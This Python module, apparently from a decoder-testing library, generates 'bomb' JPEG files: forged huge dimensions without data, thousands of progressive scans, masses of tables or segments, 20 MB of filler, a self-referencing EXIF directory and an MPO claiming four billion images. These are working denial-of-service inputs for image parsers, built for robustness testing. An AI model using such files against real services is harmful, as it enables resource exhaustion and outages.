"""JPEG files without data, or with too many scans or segments."""

from __future__ import annotations

import io
import struct

from PIL import Image

from bombs.registry import SIDE, bomb


def jpeg(image: Image.Image, **options) -> bytes:
    file = io.BytesIO()
    image.save(file, "JPEG", **options)
    return file.getvalue()


def resized(content: bytes, width: int, height: int, frame: int | None = None) -> bytes:
    """Give a JPEG file another size in its header, and another kind of frame."""
    at = next(place for code in (b"\xff\xc0", b"\xff\xc2") if (place := content.find(code)) > 0)
    code = content[at + 1] if frame is None else frame
    start = content[:at] + bytes([0xFF, code]) + content[at + 2 : at + 5]
    return start + struct.pack(">HH", height, width) + content[at + 9 :]


def many_scans(side: int, scans: int) -> bytes:
    """Refine the same coefficients again and again."""
    first = jpeg(Image.new("L", (16, 16)), progressive=True)
    # Every scan after the first one of the DC coefficient says "end of band" for as many blocks as it can.
    start = first.index(b"\xff\xda")
    table = b"\xff\xc4\0\x14\x10" + bytes([1] + [0] * 15) + b"\xe0"
    blocks = ((side + 7) // 8) ** 2
    run = 0x7FFF
    bits = ("0" + "1" * 14) * (blocks // run + 1)
    body = (
        int(bits.ljust(-(-len(bits) // 8) * 8, "1"), 2).to_bytes(-(-len(bits) // 8), "big").replace(b"\xff", b"\xff\0")
    )
    dc = b"\xff\xda\0\x08\1\1\0\0\0\0" + bytes(blocks // 8 + 1)
    again = table + b"\xff\xda\0\x08\1\1\0\1\x3f\0" + body
    dc_table = b"\xff\xc4\0\x14\0" + bytes([1] + [0] * 15) + b"\0"
    return resized(first[:start] + dc_table + dc + again * scans + b"\xff\xd9", side, side)


@bomb
def jpeg_without_data() -> bytes:
    return resized(jpeg(Image.new("RGB", (16, 16))), 65500, 65500)


@bomb
def jpeg_without_data_of_the_largest_size() -> bytes:
    return resized(jpeg(Image.new("RGB", (16, 16))), SIDE, SIDE)


@bomb
def jpeg_of_800_scans() -> bytes:
    return many_scans(8000, 800)


@bomb
def jpeg_of_many_small_scans() -> bytes:
    return many_scans(1024, 5000)


@bomb
def jpeg_of_twenty_thousand_tables() -> bytes:
    good = jpeg(Image.new("L", (16, 16)))
    at = good.index(b"\xff\xc4")
    table = good[at : at + 2 + int.from_bytes(good[at + 2 : at + 4], "big")]
    return good[:at] + table * 20_000 + good[at:]


@bomb
def jpeg_of_a_million_segments() -> bytes:
    good = jpeg(Image.new("L", (16, 16)))
    return good[:2] + b"\xff\xe9\0\2" * 1_000_000 + good[2:]


@bomb
def jpeg_arithmetic_without_data() -> bytes:
    """The decoder may read zeros for as long as it likes, and need not complain."""
    return resized(jpeg(Image.new("RGB", (16, 16))), SIDE, SIDE, 0xC9)


@bomb
def jpeg_arithmetic_progressive() -> bytes:
    return resized(jpeg(Image.new("RGB", (16, 16)), progressive=True), SIDE, SIDE, 0xCA)


@bomb
def jpeg_of_filler() -> bytes:
    good = jpeg(Image.new("L", (16, 16)))
    return good[:-2] + b"\xff" * 20_000_000 + b"\0" + good[-2:]


@bomb
def jpeg_exif_in_a_ring() -> bytes:
    ring = b"II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    huge = struct.pack("<HHHII", 1, 0x927C, 7, 2**32 - 1, 8)
    body = b"Exif\0\0" + ring + huge
    return jpeg(Image.new("L", (16, 16)), exif=body)


@bomb
def jpeg_of_four_billion_pictures() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 64)).save(file, "MPO", save_all=True, append_images=[Image.new("RGB", (64, 64))])
    content = bytearray(file.getvalue())
    at = content.index(struct.pack("<HHII", 0xB001, 4, 1, 2))
    struct.pack_into("<HHII", content, at, 0xB001, 4, 1, 2**32 - 1)
    return bytes(content)


@bomb
def jpeg_progressive_that_is_read() -> bytes:
    return many_scans(8192, 8)


@bomb
def jpeg_of_300_scans_that_is_read() -> bytes:
    return many_scans(1448, 300)


@bomb
def jpeg_arithmetic_that_is_read() -> bytes:
    return resized(jpeg(Image.new("RGB", (16, 16))), 4096, 4096, 0xC9)
